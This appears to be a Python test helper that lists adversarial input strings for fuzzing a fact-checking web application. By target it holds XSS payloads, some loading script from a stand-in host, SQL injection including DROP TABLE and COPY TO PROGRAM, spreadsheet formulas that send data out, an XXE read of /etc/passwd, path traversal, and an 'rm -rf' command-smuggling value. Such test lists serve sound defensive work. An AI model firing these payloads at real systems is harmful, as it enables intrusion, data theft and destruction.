"""Texts made to go wrong somewhere, by what they aim at; our own words, or a list named by `FACTCHECK_STRINGS`.

The file is JSON, a list of strings. Each string is then stored in every field; here they take turns.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

OWN = {
    "script": [
        "<script>pwn(1)</script>",
        "<ScRiPt\x0bsrc=//pwn.example/x.js></sCrIpT>",
        "<<script>pwn(1)//<</script>",
        "<svg/onload=pwn(1)>",
        "<math><mtext><mglyph><style><img src onerror=pwn(1)></style></mglyph></mtext></math>",
    ],
    "the way out of an element": [
        "</title><pwn>",
        "</textarea><pwn autofocus onfocus=pwn(1)>",
        "--><pwn><!--",
        "]]><pwn/>",
        "<plaintext>",
        "</p></div></article></body></html><pwn>",
    ],
    "attributes": [
        '" onmouseover="pwn(1)',
        "' autofocus onfocus='pwn(1)",
        "` onerror=`pwn(1)",
        'x" style="background:url(javascript:pwn(1))',
    ],
    "addresses": [
        "javascript:pwn(1)",
        "java\tscript:pwn(1)",
        "data:text/html,<pwn>",
        "//pwn.example/%2e%2e",
        "https://paper.example@pwn.example/",
    ],
    "style": ["</style><pwn>", "x:expression(pwn(1))", "@import'//pwn.example/x.css';"],
    "JSON in a script": [
        "</script><pwn>",
        "<!--<script>",
        '{"@context":"x"}',
        '\\u003c/script\\u003e"',
        "\u2028pwn(1)\u2029",
        "</ScRiPt ><pwn>",
    ],
    "templates": [
        "{{ 982007568|add:1 }}",
        "{% debug %}",
        "{{constructor.constructor('pwn(1)')()}}",
        "${982007568+1}",
        "#{982007568+1}",
        "<%= 982007568+1 %>",
        "{0.__class__.__mro__}",
        "%(pwn)s %s %n",
    ],
    "SQL": [
        "'; DROP TABLE claims_claim; --",
        "1 OR 1=1",
        "\\'; SELECT pg_sleep(9); --",
        "%' AND 1=(SELECT 1) AND '%'='",
        "$$;COPY claims_claim TO PROGRAM 'x';$$",
    ],
    "formulas": [
        "=1+1",
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        '=HYPERLINK("//pwn.example/"&A1)',
        "\t=1+1",
        " =1+1",
        "＝1+1",
        '","=1+1',
        "'=1+1",
    ],
    "what cannot be seen": [
        "\u202egnp.exe\u202c",
        "\u2066\u2067\u2068x",
        "a\u200bb\u200db\u2060c\ufeffd",
        "\u00adsoft\u00ad",
        "e" + "\u0301" * 200,
        "\U000e0001\U000e0041",
        "\uffff\ufffe\ufdd0",
        "\x08\x0c\x1b[31mred\x7f\x85",
        "Ω≈ç√∫ İıſK ǆ ﷽ ゙",
    ],
    "headers": [
        "x\r\nX-Pwn: 1",
        "x\nBcc: pwn@pwn.example",
        "x%0d%0aSet-Cookie: pwn=1",
        "=?utf-8?q?=0d=0aX-Pwn:1?=",
        "x\u0085y",
    ],
    "XML": [
        '<!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd">]>&p;',
        "<?xml version='1.0'?><pwn/>",
        "&lt;pwn&gt; &amp;amp; &#0; &#x1F; &nbsp",
        "<![CDATA[<pwn>]]>",
    ],
    "paths": [
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "CON",
        "a/b:c*d?.csv",
        "%2e%2e%2f",
        "~root",
        ".htaccess",
        "x;rm -rf .",
    ],
    "emoji": ["👩‍👩‍👧‍👦🏳️‍🌈", "👾 🙇 💁", "🇩🇪🇩", "❤️‍🔥" * 30],
    "words that are no values": ["null", "None", "undefined", "NaN", "true", "-0", "[]", "{}", "nil", "N/A"],
    "numbers": [
        "9" * 400,
        "1e309",
        "0x7fffffffffffffff",
        "-9223372036854775809",
        "１２３",
        "１e1000",
        "0/0",
        "1,2.3,4",
    ],
    "length": ["x" * 10_000, "word " * 1_500, "<b>" * 500],
}


def strings() -> list[str]:
    given = os.environ.get("FACTCHECK_STRINGS")
    if given:
        return list(dict.fromkeys(json.loads(Path(given).read_text())))
    return [one for many in OWN.values() for one in many]
